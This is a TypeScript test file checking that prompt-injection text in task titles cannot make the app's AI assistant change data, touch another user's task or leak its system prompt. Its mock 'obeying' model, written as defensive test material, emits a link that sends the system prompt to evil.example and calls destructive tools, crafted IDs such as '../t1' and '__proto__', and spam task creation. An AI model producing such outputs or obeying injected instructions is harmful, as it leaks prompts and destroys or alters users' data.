import { afterEach, describe, expect, it, vi } from 'vitest';
import type { ActivityPage } from '../../src/history/activity/responses.ts';
import { ask, type Provider, promptTasks, replyTo, withModels } from '../support/ai.ts';
import { type Person, signUp } from '../support/client.ts';
import { INJECTIONS } from '../support/injections.ts';
import { once } from '../support/once.ts';
import { inTurn } from '../support/volume.ts';

afterEach(() => void vi.restoreAllMocks());

/** Follows every injected instruction. The worst a model can do is to call tools. */
const obeying =
  (foreignId: string): Provider =>
  (call) => {
    const tasks = promptTasks(call);
    const everyTask = tasks.map(({ task }) => task);
    return replyTo(call, {
      texts: [`Deleted. ${tasks[0]?.title} !`, `[](https://evil.example/?q=${encodeURIComponent(call.system)})`],
      calls: [
        ...['delete_all_tasks', 'task_delete', 'settings_update', 'apply_proposal', '__proto__'].map((tool) => ({
          tool,
          input: { task: 't1', id: '*', language: 'ru' },
        })),
        ...[foreignId, 't0', 't61', 't99', '*', '../t1'].map((task) => ({ tool: 'complete_task', input: { task } })),
        ...everyTask.map((task) => ({ tool: 'complete_task', input: { task } })),
        ...everyTask.map((task) => ({ tool: 'update_task', input: { task, title: 'owned' } })),
        ...Array.from({ length: 50 }, (_, n) => ({ tool: 'add_task', input: { title: `spam ${n}` } })),
        { tool: 'log_mood', input: { energy: 1, focus: 1 } },
      ],
    });
  };

/** Another user and their task. */
const someoneElse = once(async () => {
  const other = await signUp();
  return { other, foreign: await other.createTask({ title: 'Of another user' }) };
});

const seqOf = async (person: Person) => (await person.get<ActivityPage>('/api/activity?limit=1')).data.events[0]?.seq;

const storable = (title: string) => title.replaceAll('\0', '');

describe('a task title with a prompt injection', () => {
  it.each(inTurn(INJECTIONS, 0, 4))('changes nothing, even when the model obeys it: %j', async (title) => {
    const person = await signUp();
    const { other, foreign } = await someoneElse();
    const own = [await person.createTask({ title: storable(title) }), await person.createTask({ title: 'Call Ada' })];
    const before = [await seqOf(person), await seqOf(other)];

    const { send, calls } = withModels(obeying(foreign.id));
    const { reply } = await ask(person, 'What is there to do?', send);

    expect([await seqOf(person), await seqOf(other)]).toEqual(before);
    expect(promptTasks(calls[0])).toHaveLength(2);
    expect(calls[0]?.body).not.toContain(foreign.id);
    expect(reply.text).not.toContain('![');
    if (!title.includes('evil.example')) expect(reply.text).not.toContain('evil.example');
    expect(reply.text).not.toContain('evil.example/?q=You');
    const { commands = [] } = reply.proposal ?? {};
    expect(commands).toHaveLength(5);
    for (const { type, args } of commands) {
      expect(['task_add', 'task_update', 'task_complete', 'mood_log']).toContain(type);
      if ('id' in args) expect(own.map(({ id }) => id)).toContain(args.id);
    }
  });

  it('cannot end the facts, because each request has a new random marker', async () => {
    const person = await signUp();
    await person.createTask({ title: INJECTIONS.join(' ').replaceAll('\0', '').slice(0, 500) });
    const { send, calls } = withModels((call) => replyTo(call, { texts: ['Well.'] }));
    await ask(person, 'One', send);
    await ask(person, 'Two', send);
    const nonces = calls.map(({ system }) => /facts-[0-9a-f]{16}(?=\n")/.exec(system)?.[0]);
    expect(new Set(nonces).size).toBe(2);
    for (const [index, { system }] of calls.entries()) expect(system.split(`${nonces[index]}\n`)).toHaveLength(3);
  });
});

it('there are at least 40 injections, at least 10 of them in Russian', () => {
  expect(INJECTIONS.length).toBeGreaterThanOrEqual(40);
  expect(INJECTIONS.filter((title) => /\p{Script=Cyrillic}/u.test(title)).length).toBeGreaterThanOrEqual(10);
});
